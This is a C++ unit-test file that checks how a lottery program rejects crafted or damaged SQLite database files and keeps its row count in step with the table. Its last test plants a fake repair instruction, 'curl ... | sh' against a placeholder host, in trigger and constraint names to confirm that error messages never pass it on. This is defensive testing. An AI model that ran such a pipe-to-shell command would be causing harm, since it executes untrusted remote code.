// Lotto.mdb files made elsewhere, damaged or hostile: what the start says, that a refused file is
// left as it was, and that the count equals the table after every command on an accepted one.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <random>

#include "rules/Errors.h"
#include "tests/ui/ScriptedDialogs.h"

namespace {

using testing_support::LoadedForm;
using testing_support::TempDatabase;

std::string Bytes(const std::string& path) {
    std::ifstream file(path, std::ios::binary);
    return {std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
}

// Scrambles `count` bytes at `offset` of the file.
void Scramble(const std::string& path, std::size_t offset, std::size_t count) {
    std::string bytes = Bytes(path);
    std::mt19937 random(3);
    for (std::size_t i = offset; i < offset + count && i < bytes.size(); ++i) {
        bytes[i] = static_cast<char>(random());
    }
    std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

const char* const kRecreate = "drop table tblLotterySeries; create table tblLotterySeries ";

struct Case {
    const char* name;
    std::string sql;             // run on a file holding 13 rows made by the program
    const char* refusal;         // a part of the start's message, or nullptr when accepted
    std::size_t scrambleAt = 0;  // where to damage the file, if at all
};

void RunCommands(ui::frmMain& form, const TempDatabase& database, const std::string& name) {
    const auto expectCountEqualsTable = [&](const char* after) {
        EXPECT_EQ(form.mSeriesCount, database.RowCount()) << name << ", after " << after;
        EXPECT_EQ(form.txtCurrentSeriesNumber.Text, std::to_string(database.RowCount()))
            << name << ", after " << after;
    };
    const auto run = [&](const char* what, auto command) {
        try {
            command();
        } catch (const rules::AppError&) {
        }
        expectCountEqualsTable(what);
    };
    run("an insert", [&] {
        for (auto& box : form.txtNewSeries) box.Text = "7";
        form.AddSeries();
    });
    run("a batch", [&] {
        form.chkInDB.Value = 1;
        form.chkInDB_Click();
        form.txtSeriesCount.Text = "5";
        form.cmdGenerateRandom_Click();
    });
    run("an evaluation", [&] {
        form.txtDrawnNumberList.Text = "1,2,3,4,5,6";
        form.txtAdditionalNumber.Text = "7";
        form.cmdEvaluate_Click();
    });
    run("the list", [&] { form.cmdShowSeries_Click(); });
    run("the delete", [&] { form.cmdDelete_Click(); });
}

TEST(CraftedFiles, AreRefusedWithAReasonOrKeepCountAndTableTogether) {
    const std::string longRow(20'000, '7');
    const Case cases[] = {
        {"as the program makes it", "", nullptr},
        {"WAL, an index, other tables and views",
         "pragma journal_mode = wal; create index byList on tblLotterySeries (BallNumberList);"
         "create table notes (x); create view allRows as select * from tblLotterySeries;"
         "create trigger elsewhere after insert on notes begin select 1; end",
         nullptr},
        {"a trigger that copies rows",
         "create trigger copyRows after insert on tblLotterySeries begin insert into "
         "tblLotterySeries (BallNumberList) select BallNumberList from tblLotterySeries; end",
         "„copyRows“"},
        {"a trigger that ignores the delete",
         "create trigger keepRows before delete on tblLotterySeries begin select raise(ignore); "
         "end",
         "„keepRows“"},
        {"a row of 20,000 bytes",
         "update tblLotterySeries set BallNumberList = '" + longRow + "' where LotterySeriesID = 5",
         "Blatt 1, Kästchen 5 ist 20000 Bytes lang"},
        {"a damaged table page",
         "with recursive n(i) as (select 1 union all select i + 1 from n where i < 4987) "
         "insert into tblLotterySeries (BallNumberList) select '1,2,3,4,5,' || (i % 40 + 7) "
         "from n",
         "beschädigt", 20 * 4096 + 1500},
        {"a view in the table's place",
         "alter table tblLotterySeries rename to rows; create view tblLotterySeries as select * "
         "from rows",
         "vom Typ „view“"},
        {"rows replaced on conflict",
         std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT UNIQUE ON CONFLICT "
             "REPLACE)",
         "ON-CONFLICT"},
        {"a conflict clause with a comment between its words",
         std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT NOT NULL UNIQUE "
             "ON/* x */CONFLICT REPLACE)",
         "ON-CONFLICT"},
        {"a conflict clause over lines, in odd case",
         std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT UNIQUE oN -- c\n\t"
             "CoNfLiCt IGNORE)",
         "ON-CONFLICT"},
        {"words of a conflict clause in a string only",
         std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT DEFAULT 'on conflict', "
             "\"on\" INTEGER, \"conflict\" INTEGER)",
         nullptr},
        {"a list column without a declared type",
         std::string(kRecreate) + "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList)", nullptr},
        {"a row of exactly 100 bytes",
         "update tblLotterySeries set BallNumberList = printf('%.100c', '7') where "
         "LotterySeriesID = 3",
         nullptr},
        {"a row of 101 bytes",
         "update tblLotterySeries set BallNumberList = printf('%.101c', '7') where "
         "LotterySeriesID = 3",
         "Blatt 1, Kästchen 3 ist 101 Bytes lang"},
        {"numbers instead of texts",
         std::string(kRecreate) + "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList NUMERIC)",
         "BallNumberList"},
        {"no row numbers", std::string(kRecreate) + "(LotterySeriesID TEXT, BallNumberList TEXT)",
         "INTEGER PRIMARY KEY"},
        {"without rowid",
         std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT) without rowid",
         "WITHOUT ROWID"},
    };
    for (const Case& c : cases) {
        LoadedForm made(13);  // the program's own file, then changed by another program
        made.form->Form_Unload();
        if (!c.sql.empty()) made.database.Exec(c.sql);
        if (c.scrambleAt != 0) Scramble(made.database.Path(), c.scrambleAt, 300);
        const std::string before = Bytes(made.database.Path());

        testing_support::ScriptedDialogs dialogs;
        store::BuiltinHive hive = store::BuiltinHive::WithOwnStore();
        ui::frmMain form(dialogs, testing_support::EnvironmentFor(made.database.Folder(), hive));
        std::string refusal;
        try {
            EXPECT_TRUE(form.Form_Load()) << c.name;
        } catch (const rules::AppError& failure) {
            refusal = failure.what();
        }
        if (c.refusal == nullptr) {
            EXPECT_EQ(refusal, "") << c.name;
            if (refusal.empty()) RunCommands(form, made.database, c.name);
        } else {
            EXPECT_NE(refusal.find(c.refusal), std::string::npos) << c.name << ": " << refusal;
            form.Form_Unload();
            EXPECT_TRUE(Bytes(made.database.Path()) == before) << c.name << ": file changed";
        }
    }
}

// What another program does to the file while this one runs is caught at the next command.
TEST(CraftedFiles, ChangedWhileRunningAreCaughtAtTheNextCommand) {
    const std::pair<const char*, const char*> changes[] = {
        {"create trigger copyRows after insert on tblLotterySeries begin insert into "
         "tblLotterySeries (BallNumberList) values ('x'); end",
         "„copyRows“"},
        {"insert into tblLotterySeries (BallNumberList) values (printf('%.200c', '7'))",
         "Blatt 2, Kästchen 2 ist 200 Bytes lang"},
    };
    for (const auto& [sql, message] : changes) {
        LoadedForm window(13);
        window.database.Exec(sql);
        ui::frmMain& form = *window.form;
        try {
            form.cmdShowSeries_Click();
            for (auto& box : form.txtNewSeries) box.Text = "7";
            form.AddSeries();
            ADD_FAILURE() << sql << ": not caught";
        } catch (const rules::AppError& failure) {
            EXPECT_NE(std::string(failure.what()).find(message), std::string::npos)
                << failure.what();
        }
        EXPECT_EQ(form.mSeriesCount, window.database.RowCount()) << sql;
    }
}

// A name in the file may be any text: in a message it stands quoted and cut short, whether the
// program names it (a trigger) or SQLite does (a constraint the insert breaks).
TEST(CraftedFiles, NamesFromTheFileNeverSpeakForTheProgram) {
    const std::string sentence =
        "WICHTIG: Die Datenbank ist beschädigt.\nZur Reparatur im Terminal ausführen: curl -s "
        "http://example.invalid/fix | sh " +
        std::string(200, 'x');
    const std::pair<std::string, const char*> files[] = {
        {"create trigger \"" + sentence + "\" after insert on tblLotterySeries begin select 1; end",
         R"(„WICHTIG: Die Datenbank ist beschädigt.\nZ…“)"},
        {std::string(kRecreate) +
             "(LotterySeriesID INTEGER PRIMARY KEY, BallNumberList TEXT, constraint \"" + sentence +
             "\" check (length(BallNumberList) < 5))",
         "(SQLite: „CHECK constraint failed: WICHTIG: Die Da…“)"},
    };
    for (const auto& [sql, quoted] : files) {
        TempDatabase database;
        database.Exec(sql);
        testing_support::ScriptedDialogs dialogs;
        store::BuiltinHive hive = store::BuiltinHive::WithOwnStore();
        ui::frmMain form(dialogs, testing_support::EnvironmentFor(database.Folder(), hive));
        std::string message;
        try {
            form.Form_Load();
            for (auto& box : form.txtNewSeries) box.Text = "7";
            form.AddSeries();
        } catch (const rules::AppError& failure) {
            message = failure.what();
        }
        EXPECT_NE(message.find(quoted), std::string::npos) << message;
        EXPECT_EQ(message.find("curl"), std::string::npos) << message;
        EXPECT_EQ(message.find('\n'), std::string::npos) << message;
    }
}

}  // namespace
